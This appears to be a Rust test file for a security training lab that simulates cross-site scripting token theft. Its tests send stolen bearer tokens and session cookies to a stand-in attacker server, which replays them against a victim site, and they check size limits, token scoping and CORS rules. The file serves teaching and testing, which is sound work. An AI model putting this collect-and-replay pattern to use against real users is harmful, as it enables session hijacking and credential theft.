//! What the attacker's server takes, and how it uses it.

use super::support::{ATTACKER, TestLab};
use serde_json::{Value, json};

async fn send(lab: &TestLab, id: &str, message: &Value) -> u16 {
    let request = lab.request(ATTACKER, "POST", &format!("/{id}/collect/10001")).body(message.to_string());
    request.send().await.unwrap().status().as_u16()
}

fn loot(value: &str) -> Value {
    json!({ "loot": { "credential": "bearer", "value": value } })
}

fn cookies(list: &str) -> Value {
    json!({ "loot": { "credential": "cookie", "value": list } })
}

#[tokio::test]
async fn what_arrives_is_used_against_the_victim_from_the_attackers_own_server() {
    let lab = TestLab::new().await;
    let id = lab.begin("local-storage", "xss-reads", &[]).await;
    let token = lab.token(&id).await;
    assert_eq!(send(&lab, &id, &loot(&token)).await, 204);
    let replay = loop {
        let standing = lab.standing(&id).await;
        if let Some(replay) = standing["evidence"]["loot"][0]["replays"].get(0) {
            break replay.clone();
        }
        tokio::task::yield_now().await;
    };
    assert_eq!(replay["status"], 200, "{replay}");
    assert!(replay["body"].as_str().unwrap().contains("alice"), "{replay}");
    let standing = lab.standing(&id).await;
    let request = standing["evidence"]["requests"].as_array().unwrap().last().unwrap().clone();
    assert_eq!((&request["deed"], &request["site"]), (&json!("who"), &json!("unsaid")), "{request}");
}

#[tokio::test]
async fn a_run_holds_32_kib_of_loot_and_no_more() {
    let lab = TestLab::new().await;
    let id = lab.begin("local-storage", "xss-reads", &[]).await;
    let of_size = async |id: &str, size: usize| {
        let start = format!("session={}; x=", lab.token(id).await);
        cookies(&(start.clone() + &"x".repeat(size - start.len())))
    };
    let half = of_size(&id, 16 * 1024).await;
    assert_eq!(send(&lab, &id, &half).await, 204);
    assert_eq!(send(&lab, &id, &half).await, 204);
    assert_eq!(send(&lab, &id, &loot(&lab.token(&id).await)).await, 413);
    let other = lab.begin("local-storage", "xss-reads", &[]).await;
    assert_eq!(send(&lab, &other, &of_size(&other, 32 * 1024 + 1).await).await, 413);
    assert_eq!(send(&lab, &other, &of_size(&other, 128 * 1024).await).await, 413);
}

#[tokio::test]
async fn the_collector_takes_tokens_of_its_own_lab_and_nothing_else() {
    let lab = TestLab::new().await;
    let id = lab.begin("local-storage", "xss-reads", &[]).await;
    let other = lab.begin("local-storage", "xss-reads", &[]).await;
    let (own, foreign) = (lab.token(&id).await, lab.token(&other).await);
    let damaged = format!("{}A{}", &own[..own.len() - 9], &own[own.len() - 8..]);
    for value in [&*foreign, &damaged, "a password", ""] {
        assert_eq!(send(&lab, &id, &loot(value)).await, 403, "{value}");
        assert_eq!(send(&lab, &id, &cookies(&format!("session={value}"))).await, 403, "{value}");
    }
    assert_eq!(send(&lab, &id, &cookies(&format!("theme={own}"))).await, 403);
    assert_eq!(lab.standing(&id).await["evidence"]["loot"], json!([]));
    assert_eq!(send(&lab, &id, &loot(&own)).await, 204);
    assert_eq!(send(&lab, &id, &cookies(&format!("theme=dark; session={own}"))).await, 204);
}

#[tokio::test]
async fn what_arrives_after_its_run_proves_nothing() {
    let lab = TestLab::new().await;
    let id = lab.begin("local-storage", "xss-reads", &[]).await;
    let token = lab.token(&id).await;
    let plan = json!({ "strategy": "memory-js", "attack": "xss-reads" });
    assert_eq!(lab.ask("POST", &format!("/labs/{id}/run"), &plan).await.0, 200);
    assert_eq!(send(&lab, &id, &loot(&token)).await, 204);
    let evidence = &lab.standing(&id).await["evidence"];
    assert_eq!((&evidence["loot"], &evidence["reports"]), (&json!([]), &json!([])));
}

#[tokio::test]
async fn the_notebook_is_for_the_control_room_alone() {
    let lab = TestLab::new().await;
    let id = lab.open().await;
    let granted = async |origin: &str| {
        let request = lab.request(ATTACKER, "GET", &format!("/{id}/notebook")).header("origin", origin);
        let answer = request.send().await.unwrap();
        answer.headers().get("access-control-allow-origin").map(|value| value.to_str().unwrap().to_owned())
    };
    let control = lab.sites[0].0.clone();
    assert_eq!(granted(&control).await.as_deref(), Some(&*control));
    assert_eq!(granted("http://localhost:3000").await, None);
}
